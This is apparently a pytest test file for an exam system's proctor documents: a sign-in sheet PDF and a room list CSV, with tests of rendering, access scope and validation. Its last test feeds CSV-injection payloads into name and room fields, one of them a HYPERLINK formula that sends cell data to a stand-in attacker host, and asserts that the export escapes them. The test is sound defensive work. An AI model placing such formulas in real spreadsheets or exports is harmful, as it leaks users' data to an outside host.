"""The proctors' papers of a room: the sign-in sheet (签到表) PDF, rendered by a worker, with each
seat's photo, name, 准考证号 and a signature box, and the room list CSV; both for staff in scope only."""

from __future__ import annotations

import csv
import io

import pytest
from pypdf import PdfReader

from certificates.models import RoomSheet
from tests.arrangement.conftest import ROOM_LIST, SHEET, make_rooms, token_client

pytestmark = pytest.mark.django_db


@pytest.fixture
def room(world, registered, arrange, photos):
    """A room of three seats at site A, seated with three candidates (two with a stored photo)."""
    (room,) = make_rooms(world.site_a, [3])
    applications = [registered(), registered(), registered()]
    applications[1].candidate.name = "李四"
    applications[1].candidate.save()
    photos(applications[0])
    photos(applications[1])
    arrange()
    room.applications = applications
    return room


def _fetch(client, url: str, capture_on_commit) -> bytes:
    """GET until the PDF is there, running the render it queues (202, then 200)."""
    for _attempt in range(3):
        with capture_on_commit(execute=True):
            response = client.get(url)
        if response.status_code == 200:
            assert response["Content-Type"] == "application/pdf"
            return b"".join(response.streaming_content)
        assert response.status_code == 202, (response.status_code, response.content[:300])
    pytest.fail(f"{url} did not become ready")


def _images(reader: PdfReader) -> int:
    return sum(len(page.images) for page in reader.pages)


def test_the_sign_in_sheet_shows_each_seat_with_photo_name_ticket_number_and_a_signature_box(
    world, room, api_as, django_capture_on_commit_callbacks
):
    """Seed 003 line 639: "为确保签到表、准考证等文件照片显示正常" — the photo is printed on the 签到表."""
    pdf = _fetch(api_as("sh_site"), SHEET.format(room=room.pk), django_capture_on_commit_callbacks)
    reader = PdfReader(io.BytesIO(pdf))
    text = "".join(page.extract_text() for page in reader.pages)

    assert "考场签到表" in text
    assert room.name in text
    assert "考生签名" in text
    for seat, application in enumerate(room.applications, start=1):
        assert f"{world.exam.year}{application.number}" in text
        assert f"{seat:02d}" in text
    assert "李四" in text
    # Two photos stored, two printed; the third seat says its photo is missing.
    assert _images(reader) == 2
    assert "照片缺失" in text


def test_the_sheet_is_rendered_by_a_worker_once_and_again_when_the_seating_changes(
    world, room, registered, api_as, arrange, django_capture_on_commit_callbacks
):
    client = api_as("sh_district")
    with django_capture_on_commit_callbacks(execute=False) as queued:
        response = client.get(SHEET.format(room=room.pk))
    assert response.status_code == 202
    assert response["Retry-After"].isdigit()
    assert len(queued) == 1
    queued[0]()  # the worker takes the render
    _fetch(client, SHEET.format(room=room.pk), django_capture_on_commit_callbacks)
    first = RoomSheet.objects.get()

    with django_capture_on_commit_callbacks(execute=False) as queued:
        assert client.get(SHEET.format(room=room.pk)).status_code == 200
    assert not queued  # the ready version is served as it is

    room.seats = 4
    room.save()
    registered()
    arrange()
    _fetch(client, SHEET.format(room=room.pk), django_capture_on_commit_callbacks)
    assert RoomSheet.objects.get().pk != first.pk  # the older version and its file are gone


def test_the_room_list_is_a_csv_in_seat_order(world, room, api_as):
    response = api_as("admin").get(ROOM_LIST.format(room=room.pk))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["seat"] for row in rows] == ["01", "02", "03"]
    assert [row["number"] for row in rows] == [application.number for application in room.applications]
    assert rows[1]["name"] == "李四"
    assert rows[0]["ticket_number"] == f"{world.exam.year}{room.applications[0].number}"
    assert {row["date"] for row in rows} == {world.exam.exam_date.isoformat()}


@pytest.mark.parametrize("url", [SHEET, ROOM_LIST])
def test_staff_out_of_scope_get_404_and_other_roles_403(world, room, api_as, url):
    assert api_as("sh_site_b").get(url.format(room=room.pk)).status_code == 404
    assert api_as("bj_district").get(url.format(room=room.pk)).status_code == 404
    assert api_as("sh_point").get(url.format(room=room.pk)).status_code == 403
    assert token_client(room.applications[0].candidate).get(url.format(room=room.pk)).status_code == 403


def test_a_bad_date_is_400_and_a_room_never_used_is_404(world, room, api_as):
    client = api_as("admin")
    response = client.get(ROOM_LIST.format(room=room.pk) + "?date=tomorrow")
    assert response.status_code == 400
    assert "date" in response.json()["fields"]
    (unused,) = make_rooms(world.site_a, [2], venue="备用楼", position=5)
    assert client.get(ROOM_LIST.format(room=unused.pk)).status_code == 404


def test_staff_list_the_rooms_of_their_scope(world, room, api_as):
    make_rooms(world.bj_site, [2])
    body = api_as("sh_site").get("/api/v1/staff/rooms/").json()
    assert [(line["id"], line["dates"]) for line in body["results"]] == [(room.pk, [world.exam.exam_date.isoformat()])]
    assert api_as("admin").get("/api/v1/staff/rooms/").json()["count"] == 2


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
    ids=["hyperlink", "plus", "minus", "at", "tab"],
)
def test_a_formula_typed_as_a_name_or_a_room_is_written_as_text_in_the_room_list(world, room, api_as, typed):
    """OWASP CSV injection: the list is opened in spreadsheets, where a cell starting with = + - @ runs."""
    candidate = room.applications[0].candidate
    candidate.name = typed
    candidate.save()
    room.name = typed
    room.save()

    response = api_as("admin").get(ROOM_LIST.format(room=room.pk))

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + typed
    assert {row["room"] for row in rows} == {"'" + typed}
    assert rows[1]["name"] == "李四"  # ordinary text stays as it is
    assert rows[0]["seat"] == "01"
